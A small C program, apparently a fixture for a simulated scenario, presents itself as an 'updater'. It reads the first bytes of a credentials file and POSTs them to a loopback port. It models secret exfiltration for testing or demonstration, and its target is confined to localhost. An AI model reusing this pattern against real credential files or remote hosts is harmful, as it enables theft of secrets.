/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The downloaded program of the sample story: reads the credentials file named by its first argument and sends its
 * first bytes to the loopback port named by the second. Harmless: the file is made by the story, the listener too.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc != 3) {
		fprintf(stderr, "usage: updater FILE PORT\n");
		return 2;
	}
	char secret[256];
	int file = open(argv[1], O_RDONLY | O_CLOEXEC);
	if (file < 0) {
		perror(argv[1]);
		return 1;
	}
	ssize_t length = read(file, secret, sizeof(secret));
	close(file);
	if (length < 0)
		return 1;
	int sock = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct sockaddr_in to = { .sin_family = AF_INET,
				  .sin_port = htons((uint16_t)atoi(argv[2])),
				  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	if (sock < 0 || connect(sock, (struct sockaddr *)&to, sizeof(to)) < 0) {
		perror("connect");
		return 1;
	}
	char head[80];
	int head_length = snprintf(head, sizeof(head), "POST / HTTP/1.0\r\nContent-Length: %zd\r\n\r\n", length);
	if (write(sock, head, (size_t)head_length) != head_length || write(sock, secret, (size_t)length) != length)
		return 1;
	close(sock);
	return 0;
}
